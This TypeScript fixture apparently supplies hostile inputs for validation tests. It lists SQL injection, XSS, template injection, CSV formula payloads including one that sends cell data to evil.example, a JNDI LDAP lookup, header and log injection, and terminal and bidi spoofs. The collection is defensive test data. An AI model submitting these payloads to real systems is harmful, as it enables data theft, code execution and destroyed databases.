/** Text that means something to whoever reads it as more than text. */
export const hostileTexts = {
  sql: `Robert'); DROP TABLE membership; --`,
  sqlQuote: `\\' OR 1=1; SELECT pg_sleep(9) /*`,
  like: '%_\\%',
  html: `<img src=x onerror="alert(1)"><script>alert(2)</script>`,
  attribute: `" autofocus onfocus=alert(1) x='`,
  entity: '&lt;b&gt;&#x3c;/script&#x3e;',
  template: '{{constructor.constructor("alert(1)")()}} #{7*7} <%= 7*7 %>',
  formula: `=HYPERLINK("//evil.example/?"&A1,"x")`,
  formulaPlus: '+1+cmd|"/C calc"!A0',
  formulaAt: '@SUM(A1:A9)',
  formulaMinus: '-2+3',
  format: '%s%n%x {0} $1 \\u0041',
  url: 'javascript:alert(1)//evil.example',
  jndi: '$\u007bjndi:ldap://evil.example/a}',
  proto: '__proto__',
} as const

/** What a name or an address may not hold at all; it is refused, or taken out. */
export const hostileControls = {
  header: 'Ann\r\nBcc: victim@evil.example',
  log: 'Ann\n{"level":"fatal","msg":"forged"}',
  terminal: 'Ann\u001b[2J\u001b]0;owned\u0007',
  c1: 'Ann\u009b31m',
  nul: 'Ann\u0000Berg',
  bidi: 'Ann\u202egnp.exe',
  surrogate: 'Ann\ud800',
  separator: 'Ann\u2028Berg\u2029',
} as const
